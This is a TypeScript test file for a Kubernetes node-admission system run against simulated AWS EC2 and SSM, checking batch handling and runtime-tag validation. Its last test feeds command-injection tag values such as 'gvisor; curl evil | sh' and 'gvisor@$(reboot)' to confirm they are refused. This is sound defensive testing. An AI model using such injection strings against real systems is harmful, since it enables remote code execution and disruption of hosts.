import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { ModelledMachine } from '../../packages/lab/machines.ts';
import type { Simulation } from '../../packages/lab/simulation.ts';
import { AwsError } from '../../packages/local-aws/aws.ts';
import { VirtualClock } from '../../packages/local-aws/clock.ts';
import {
  commandsFor,
  done,
  functionName,
  launch,
  launchRecord,
  nodeOf,
  pass,
  settle,
  startSimulation,
  taintsOf,
} from './scenario.ts';

/** Invokes admission with one batch, as a poller does. */
async function admit(world: Simulation, Records: readonly object[]): Promise<{ batchItemFailures: unknown[] }> {
  const invocation = world.cloud.lambda.invoke(
    functionName(world, 'Admission'),
    JSON.stringify({ Records }),
    'RequestResponse',
  );
  let ended = false;
  const note = () => {
    ended = true;
  };
  invocation.then(note, note);
  if (world.clock instanceof VirtualClock) await world.clock.run(() => ended);
  const { payload, functionError } = await invocation;
  expect(functionError).toBeUndefined();
  return JSON.parse(payload) as { batchItemFailures: unknown[] };
}

describe('events that are not ours', () => {
  it('cost one look-up per batch, are no error, and do not delay ours', async () => {
    const world = await startSimulation();
    const ours = await Promise.all([launch(world), launch(world)]);
    const { ec2 } = world.services;
    const untagged = Array.from({ length: 12 }, () => ec2.launch({ tags: { Name: 'web' } }));
    const foreign = Array.from({ length: 10 }, () =>
      ec2.launch({ tags: { 'airlock:runtime': 'gvisor', 'eks:cluster-name': 'other' } }),
    );
    const at = new Date(world.clock.now()).toISOString();
    const ids = [...ours.map(({ instanceId }) => instanceId), ...untagged, ...foreign];
    const unreadable = { ...launchRecord('i-0', at), messageId: 'unreadable', body: '{"source":"aws.ec2","detail":' };
    const before = done(world, 'DescribeInstances');

    const { batchItemFailures } = await admit(world, [...ids.map((id) => launchRecord(id, at)), unreadable]);

    expect(done(world, 'DescribeInstances') - before).toBe(1);
    expect(batchItemFailures).toEqual([]);
    expect(
      world.services.states
        .executions()
        .map(({ name }) => name.slice(0, 19))
        .toSorted(),
    ).toEqual(ours.map(({ instanceId }) => instanceId).toSorted());
    await settle(world);
    expect(ours.map((node) => world.report(node).outcome)).toEqual(['released', 'released']);
  });

  it('of an instance that EC2 does not show yet are looked at again, and discarded after two minutes', async () => {
    const world = await startSimulation();
    const id = `i-0${randomBytes(8).toString('hex')}`;
    const at = new Date(world.clock.now()).toISOString();
    expect(await admit(world, [launchRecord(id, at)])).toEqual({ batchItemFailures: [{ itemIdentifier: id }] });
    await pass(world, 121_000);
    expect(await admit(world, [launchRecord(id, at)])).toEqual({ batchItemFailures: [] });
  });
});

describe('a batch of nodes', () => {
  it('installs the others if one was terminated and one lost its tag', async () => {
    const world = await startSimulation();
    const nodes = await Promise.all(Array.from({ length: 5 }, () => launch(world)));
    const [gone, bare, ...others] = nodes;
    await pass(world, 20_000);
    world.services.ec2.terminate(gone?.instanceId ?? '');
    world.services.ec2.retag(bare?.instanceId ?? '', { 'eks:cluster-name': 'demo' });
    await settle(world);

    expect(others.map((node) => world.report(node).outcome)).toEqual(['released', 'released', 'released']);
    expect(gone && commandsFor(world, gone)).toBe(0);
    expect(bare && [world.report(bare).outcome, commandsFor(world, bare)]).toEqual(['command-forbidden', 0]);
  });
});

describe('a batch with one node that SSM refuses', () => {
  it.each(['UnsupportedPlatformType', 'InvalidParameters'])(
    "as %s: installs the others, and that one ends with SSM's reason",
    async (code) => {
      const world = await startSimulation([], async () => new ModelledMachine());
      const [refused, ...others] = await Promise.all(Array.from({ length: 4 }, () => launch(world)));
      const id = refused?.instanceId ?? '';
      world.cloud.faults = {
        beforeCall: ({ operation, input }) =>
          operation === 'SendCommand' && (input as { InstanceIds: string[] }).InstanceIds.includes(id)
            ? new AwsError(code, 'not for this one')
            : undefined,
      };
      await settle(world);
      expect(others.map((node) => world.report(node).outcome)).toEqual(['released', 'released', 'released']);
      expect(refused && world.report(refused)).toMatchObject({
        outcome: 'command-forbidden',
        detail: expect.stringContaining(`${code}: not for this one`),
      });
    },
  );
});

describe('a tag', () => {
  it.each(['gvisr', 'gvisor@1', 'gvisor; curl evil | sh', 'gvisor@$(reboot)', '`id`'])(
    'that requests %j is refused before anything reaches the node, and the gate stays',
    async (tag) => {
      const world = await startSimulation();
      const node = await launch(world, { tags: { 'airlock:runtime': tag } });
      await settle(world);

      expect(world.report(node).outcome).toBe('unknown-runtime');
      expect(done(world, 'SendCommand')).toBe(0);
      expect(taintsOf(world, node)).toEqual(['airlock.dev/bootstrap', 'airlock.dev/quarantined']);
      const receipt = JSON.parse(nodeOf(world, node).metadata.annotations?.['airlock.dev/receipt'] ?? '{}');
      expect(receipt).toMatchObject({
        outcome: 'unknown-runtime',
        detail: expect.stringContaining(JSON.stringify(tag)),
      });
    },
  );
});
